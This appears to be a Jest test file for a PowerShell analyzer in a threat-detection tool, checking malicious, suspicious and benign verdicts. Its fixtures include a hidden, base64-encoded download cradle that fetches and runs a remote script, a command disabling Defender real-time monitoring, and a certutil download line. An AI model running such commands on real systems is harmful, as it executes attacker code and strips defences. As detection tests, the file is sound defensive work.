// The 'powershell' finding: verdict, ATT&CK ids, and evidence that carries the deobfuscated script.
import { Finding } from '../../../src/domain/finding';
import { analyzePowerShell, looksLikePowerShell, POWERSHELL_ANALYZER } from '../../../src/analyzers/powershell';

const u16 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('analyzePowerShell', () => {
  it('reports an encoded download cradle as malicious with the clear script in evidence', async () => {
    const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
    const f = await analyzePowerShell([`powershell.exe -nop -w hidden -enc ${u16(cradle)}`, 'ipconfig /all']);
    expect(Finding.parse(f)).toEqual(f);
    expect(f.analyzer).toBe(POWERSHELL_ANALYZER);
    expect(f.verdict).toBe('malicious');
    expect(f.score).toBe(85);
    expect(f.attack).toEqual(['T1027', 'T1059.001', 'T1105', 'T1564.003']);
    expect(f.evidence[0]).toContain("iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
    expect(f.evidence.some((e) => e.startsWith('download-cradle (85, T1059.001 T1105)'))).toBe(true);
    expect(f.summary).toMatch(/download cradle/);
  });

  it('clips a long deobfuscated script in evidence', async () => {
    const long = `Set-MpPreference -DisableRealtimeMonitoring $true; Write-Host '${'x'.repeat(5000)}'`;
    const f = await analyzePowerShell([long]);
    expect(f.verdict).toBe('malicious');
    expect(f.evidence[0].length).toBeLessThan(1700);
    expect(f.evidence[0]).toMatch(/… \(\d+ chars\)$/);
  });

  it('calls clean PowerShell benign and says nothing was found', async () => {
    const f = await analyzePowerShell(['Get-Service | Where-Object { $_.Status -eq "Running" }']);
    expect(f.verdict).toBe('benign');
    expect(f.score).toBe(0);
    expect(f.attack).toEqual([]);
  });

  it('says suspicious for obfuscation without a known-bad action', async () => {
    const f = await analyzePowerShell(["&('Wr'+'ite-Host') ('{1}{0}' -f 'lo','hel')"]);
    expect(f.verdict).toBe('suspicious');
    expect(f.attack).toEqual(['T1027']);
    expect(f.evidence[0]).toContain("Write-Host 'hello'");
  });

  it('recognises which lines are PowerShell', () => {
    expect(looksLikePowerShell('powershell -enc AAAA')).toBe(true);
    expect(looksLikePowerShell('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c x')).toBe(true);
    expect(looksLikePowerShell("IEX (iwr 'http://x')")).toBe(true);
    expect(looksLikePowerShell('$a = 1')).toBe(true);
    expect(looksLikePowerShell("&('Wr'+'ite-Host') 'x'")).toBe(true);
    expect(looksLikePowerShell('ls -la /tmp')).toBe(false);
    expect(looksLikePowerShell('certutil -urlcache -f http://x a')).toBe(false);
  });
});
